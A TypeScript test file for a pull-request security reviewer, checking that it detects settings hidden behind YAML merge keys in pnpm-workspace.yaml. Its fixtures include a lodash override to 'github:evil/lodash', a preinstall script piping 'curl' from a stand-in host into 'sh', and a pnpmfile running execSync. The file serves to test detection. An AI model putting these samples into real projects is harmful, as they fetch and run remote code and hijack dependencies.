import { afterAll, describe, expect, it } from 'vitest';
import { PNPM_PROJECT } from './projects.js';
import { pairReviewer } from './repo.js';

/**
 * pnpm reads pnpm-workspace.yaml with js-yaml `load` (read-yaml-file), whose DEFAULT_SCHEMA applies `<<` merge keys
 * (loader `storeMappingPair` → `mergeMappings`). The review's own readers of the file (overrides, workspace
 * packages, the pnpmfile) read it the same way, so a setting a pull request hides behind `<<:` is the setting pnpm
 * applies. A quoted `'<<'` is a plain key for js-yaml, and sets nothing.
 */
const { review, cleanup } = pairReviewer();
afterAll(cleanup);

const pkg = (extra: Record<string, unknown>) =>
  JSON.stringify({ name: 'web', version: '1.0.0', ...extra }, null, 2) + '\n';

describe('review reads pnpm-workspace.yaml with its merge keys, as pnpm does', () => {
  it('an override to git merged in with `<<:` → CPU028', async () => {
    const r = await review(
      { ...PNPM_PROJECT, 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
      { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n<<: {overrides: {lodash: "github:evil/lodash"}}\n' },
    );
    const found = r.findings.filter((f) => f.ruleId === 'CPU028');
    // At the line of the `<<` that brings it in.
    expect(found.map((f) => `${f.location.path}:${f.location.line}`)).toEqual(['pnpm-workspace.yaml:3']);
    expect(found[0]?.evidence?.['after']).toBe('overrides: lodash=github:evil/lodash');
    expect(r.gate?.passed).toBe(false);
  });

  it('the same override under a quoted `"<<"` key (a plain key for js-yaml) → no CPU028', async () => {
    const r = await review(
      { ...PNPM_PROJECT, 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
      { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n"<<": {overrides: {lodash: "github:evil/lodash"}}\n' },
    );
    expect(r.findings.filter((f) => f.ruleId === 'CPU028')).toEqual([]);
  });

  it('workspace packages merged in: a package there gaining a preinstall is a project script (error), not a note', async () => {
    const ws = { 'pnpm-workspace.yaml': "<<: {packages: ['apps/*']}\n" };
    const r = await review(
      { ...PNPM_PROJECT, ...ws, 'apps/web/package.json': pkg({}) },
      { 'apps/web/package.json': pkg({ scripts: { preinstall: 'curl -s https://x.example | sh' } }) },
    );
    const found = r.findings.filter((f) => f.ruleId === 'CPU027');
    expect(found.map((f) => `${f.location.path}:${f.level ?? 'error'}`)).toEqual(['apps/web/package.json:error']);
    expect(r.gate?.passed).toBe(false);
  });

  it('a pnpmfile named through `<<:` rewritten in place → CPU026 at the pnpmfile', async () => {
    const ws = { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n<<: {pnpmfile: tools/hooks.cjs}\n' };
    const r = await review(
      { ...PNPM_PROJECT, ...ws, 'tools/hooks.cjs': 'module.exports = { hooks: {} }\n' },
      { 'tools/hooks.cjs': 'require("child_process").execSync("id")\nmodule.exports = { hooks: {} }\n' },
    );
    expect(r.findings.filter((f) => f.ruleId === 'CPU026').map((f) => f.location.path)).toEqual(['tools/hooks.cjs']);
    expect(r.gate?.passed).toBe(false);
  });

  it('a pnpmfile set in flow style with a quoted value → CPU026 at the pnpmfile', async () => {
    const ws = { 'pnpm-workspace.yaml': "{packages: [packages/*], pnpmfile: 'tools/hooks.cjs'}\n" };
    const r = await review(
      { ...PNPM_PROJECT, ...ws, 'tools/hooks.cjs': 'module.exports = { hooks: {} }\n' },
      { 'tools/hooks.cjs': 'require("child_process").execSync("id")\nmodule.exports = { hooks: {} }\n' },
    );
    expect(r.findings.filter((f) => f.ruleId === 'CPU026').map((f) => f.location.path)).toEqual(['tools/hooks.cjs']);
  });

  it('a merge key whose value is not a mapping (pnpm refuses the file) → CPU030', async () => {
    const r = await review(
      { ...PNPM_PROJECT, 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' },
      { 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n<<: github:evil/lodash\n' },
    );
    expect(r.findings.filter((f) => f.ruleId === 'CPU030').map((f) => f.location.path)).toEqual([
      'pnpm-workspace.yaml',
    ]);
  });
});
